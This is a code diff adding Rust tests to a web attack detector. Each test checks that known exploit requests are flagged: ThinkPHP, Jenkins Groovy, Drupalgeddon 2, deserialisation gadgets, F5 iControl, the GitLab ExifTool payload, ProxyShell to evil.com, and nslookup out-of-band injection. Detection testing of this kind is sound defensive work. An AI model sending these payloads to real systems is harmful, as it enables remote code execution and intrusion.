@@ -4405,3 +4405,129 @@ fn an_xml_declaration_of_an_unreadable_charset_is_a_charset_evasion() {
         assert!(!evasion(&xml(decl)), "{decl}: {:?}", xml(decl));
     }
 }
+
+/// The requests of `cases` (name, class, request) that get no hit of their
+/// class.
+fn review36a_misses(cases: &[(&str, AttackClass, Request)]) -> Vec<String> {
+    cases
+        .iter()
+        .filter(|(_, class, r)| !hits_of(r).iter().any(|h| h.class == *class))
+        .map(|(name, class, r)| format!("{} {name}: {:?}", class.as_str(), hits_of(r)))
+        .collect()
+}
+
+/// ThinkPHP 5's router runs any public method it is pointed at: PHP runs
+/// `\think\app::invokefunction('call_user_func_array', ['system', ['id']])`
+/// for `?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id`
+/// (CVE-2018-20062), and 5.0.23 lets `_method=__construct` overwrite the
+/// request's filters (`filter[]=system`). Mirai and Mozi bots send these
+/// every day. Specula had no hit on them: the dangerous function is a bare
+/// value (`system`, `call_user_func_array`), not a call.
+/// Severity: High (exploit in common use, no hit at all).
+#[test]
+fn review36a_thinkphp_rce_is_detected() {
+    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
+    let cases = [
+        ("invokefunction", AttackClass::Rce, req("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", &[], b"")),
+        ("invokefunction encoded", AttackClass::Rce, req("GET", "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=md5&vars%5B1%5D%5B%5D=HelloThinkPHP21", &[], b"")),
+        ("container", AttackClass::Rce, req("GET", "/index.php?s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1", &[], b"")),
+        ("request input", AttackClass::Rce, req("GET", "/index.php?s=index/\\think\\Request/input&filter=system&data=id", &[], b"")),
+        ("5.0.23 construct", AttackClass::Rce, req("POST", "/index.php?s=captcha", form, b"_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id")),
+    ];
+    let misses = review36a_misses(&cases);
+    assert!(misses.is_empty(), "{}", misses.join("\n"));
+}
+
+/// Groovy runs a string as a process with `.execute()`: the Jenkins script
+/// console runs `println "id".execute().text` (POST /script), the Script
+/// Security sandbox bypass CVE-2019-1003000 compiles
+/// `public class x {public x(){"id".execute()}}` from a GET, and
+/// CVE-2019-1003029 fetches a jar with `@Grab`. Specula had no hit.
+/// Severity: High.
+#[test]
+fn review36a_jenkins_groovy_execution_is_detected() {
+    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
+    let cases = [
+        ("script console", AttackClass::Rce, req("POST", "/script", form, b"script=println+%22id%22.execute%28%29.text&Submit=Run")),
+        ("script text", AttackClass::Rce, req("POST", "/scriptText", form, b"script=def+sout+%3D+new+StringBuilder%28%29%0Adef+proc+%3D+%27id%27.execute%28%29%0Aproc.consumeProcessOutput%28sout%2C+sout%29")),
+        ("list execute", AttackClass::Rce, req("POST", "/script", form, b"script=%5B%27bash%27%2C%27-c%27%2C%27id%27%5D.execute%28%29.text")),
+        ("CVE-2019-1003000", AttackClass::Rce, req("GET", "/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public+class+x+%7Bpublic+x%28%29%7B%22id%22.execute%28%29%7D%7D", &[], b"")),
+        ("@Grab", AttackClass::Rce, req("GET", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=@GrabConfig(disableChecksums=true)%0a@GrabResolver(name=%27x%27,%20root=%27http://x/%27)%0a@Grab(group=%27p%27,%20module=%27n%27,%20version=%271%27)%0aimport%20Payload;", &[], b"")),
+    ];
+    let misses = review36a_misses(&cases);
+    assert!(misses.is_empty(), "{}", misses.join("\n"));
+}
+
+/// Drupal's Form API calls the callbacks of a render array it builds from
+/// the request (`#post_render`, `#lazy_builder`): Drupalgeddon 2
+/// (CVE-2018-7600) posts `mail[#post_render][]=exec&mail[#markup]=id`.
+/// Specula inspects these names and values but had no hit.
+/// Severity: High.
+#[test]
+fn review36a_drupalgeddon2_is_detected() {
+    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
+    let cases = [
+        ("drupal 8", AttackClass::Rce, req("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", form, b"form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id")),
+        ("drupal 7", AttackClass::Rce, req("POST", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", form, b"form_id=user_pass&_triggering_element_name=name")),
+    ];
+    let misses = review36a_misses(&cases);
+    assert!(misses.is_empty(), "{}", misses.join("\n"));
+}
+
+/// Deserialisation payloads: PyYAML's unsafe loader runs
+/// `!!python/object/apply:os.system ["id"]`, Psych builds the universal
+/// Ruby gadget from `!ruby/object:Gem::Installer`, `pickle.loads` imports
+/// `posix.system` from `cposix\nsystem\n` (also a base64 cookie, which
+/// Specula decodes), XStream builds the NativeString chain, Json.NET
+/// builds ysoserial.net's ObjectDataProvider from `$type`, Jackson the
+/// logback JNDI source, and ASP.NET an unsigned ViewState's
+/// BinaryFormatter gadget. Specula had no RCE hit on any (the Jackson one
+/// only an SSRF hit for its ldap:// URL).
+/// Severity: High (no hit at all for most).
+#[test]
+fn review36a_deserialisation_payloads_are_detected() {
+    let json = &[("Content-Type", "application/json")][..];
+    let yaml = &[("Content-Type", "application/x-yaml")][..];
+    let xml = &[("Content-Type", "application/xml")][..];
+    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
+    let cases = [
+        ("pyyaml", AttackClass::Rce, req("POST", "/api", yaml, b"!!python/object/apply:os.system [\"id\"]")),
+        ("pyyaml form", AttackClass::Rce, req("POST", "/api", form, b"data=%21%21python%2Fobject%2Fapply%3Asubprocess.check_output%0A-+%5Bid%5D")),
+        ("ruby yaml", AttackClass::Rce, req("POST", "/api", yaml, b"--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n")),
+        ("pickle", AttackClass::Rce, req("POST", "/api", &[("Content-Type", "application/octet-stream")], b"cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.")),
+        ("pickle base64 cookie", AttackClass::Rce, req("GET", "/", &[("Cookie", "session=Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==")], b"")),
+        ("xstream", AttackClass::Rce, req("POST", "/api", xml, b"<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>")),
+        ("json.net", AttackClass::Rce, req("POST", "/api", json, br#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}"#)),
+        ("telerik", AttackClass::Rce, req("POST", "/Telerik.Web.UI.WebResource.axd?type=rau", &[("Content-Type", "multipart/form-data; boundary=b")], b"--b\r\nContent-Disposition: form-data; name=\"rauPostData\"\r\n\r\nx\r\n&{\"$type\":\"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0\",\"Path\":\"file:///c:/windows/temp/x.dll\"}\r\n--b--\r\n")),
+        ("jackson", AttackClass::Rce, req("POST", "/api", json, br#"["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x/a"}]"#)),
+        ("viewstate", AttackClass::Rce, req("POST", "/default.aspx", form, b"__VIEWSTATE=%2FwEyxBEAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAASVN5c3RlbSwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODkFAQAAAIQBU3lzdGVtLkNvbGxlY3Rpb25zLkdlbmVyaWMuU29ydGVkU2V0YDFb&__VIEWSTATEGENERATOR=CA0B0334")),
+    ];
+    let misses = review36a_misses(&cases);
+    assert!(misses.is_empty(), "{}", misses.join("\n"));
+}
+
+/// Well-known exploits with no hit of their class: F5 iControl REST
+/// (CVE-2022-1388; Apache drops the `X-F5-Auth-Token` that `Connection`
+/// names as hop-by-hop and the back end runs `utilCmdArgs` as root),
+/// GitLab ExifTool (CVE-2021-22205; ExifTool evals the DjVu annotation's
+/// `" . qx{...} . "`), Exchange ProxyShell (CVE-2021-34473; the front end
+/// strips `autodiscover.json?@x` and proxies to any back-end path), a
+/// Struts2 OGNL evaluation probe (`%{7*7}`, S2-061) and an out-of-band
+/// command injection (`;nslookup host`).
+/// Severity: High.
+#[test]
+fn review36a_well_known_exploits_are_detected() {
+    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
+    let cases = [
+        ("f5 CVE-2022-1388", AttackClass::Rce, req("POST", "/mgmt/tm/util/bash", &[("Content-Type", "application/json"), ("Connection", "keep-alive, X-F5-Auth-Token"), ("X-F5-Auth-Token", "a"), ("Authorization", "Basic YWRtaW46")], br#"{"command":"run","utilCmdArgs":"-c id"}"#)),
+        ("gitlab exiftool", AttackClass::Rce, req("POST", "/uploads/user", &[("Content-Type", "multipart/form-data; boundary=b")], b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"test.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00.\x81\x00\x02\x00\x00\x00F\x00\x00\x00\xac\xff\xff\xde\xbf\x99 !\xc8\x91N\xeb\x0c\x07\x1f\xd2\xda\x88\xe8k\xe6D\x0f,q\x02\xeeI\xd3n\x95\xbd\xa2\xc3\"?FORM\x00\x00\x03\x07DJVIANTa\x00\x00\x01P(metadata\n\t(Copyright \"\\\n\" . qx{echo vakzz >/tmp/vakzz} . \\\n\" b \") )\n\r\n--b--\r\n")),
+        ("proxyshell", AttackClass::Ssrf, req("GET", "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", &[], b"")),
+        ("proxynotshell", AttackClass::Ssrf, req("POST", "/autodiscover/autodiscover.json?a@foo.var/owa/&Email=autodiscover/autodiscover.json?a@foo.var&Protocol=XYZ&FooProtocol=Powershell", &[], b"")),
+        ("struts probe", AttackClass::Rce, req("GET", "/index.action?id=%25%7B7*7%7D", &[], b"")),
+        ("struts action prefix", AttackClass::Rce, req("GET", "/index.action?action:%25%7B3*4%7D", &[], b"")),
+        ("nslookup", AttackClass::Rce, req("POST", "/diag", form, b"host=127.0.0.1%3Bnslookup+x7k2.oast.example")),
+        ("nslookup substitution", AttackClass::Rce, req("GET", "/diag?host=a%7Cnslookup%20%60whoami%60.x7k2.example", &[], b"")),
+    ];
+    let misses = review36a_misses(&cases);
+    assert!(misses.is_empty(), "{}", misses.join("\n"));
+}
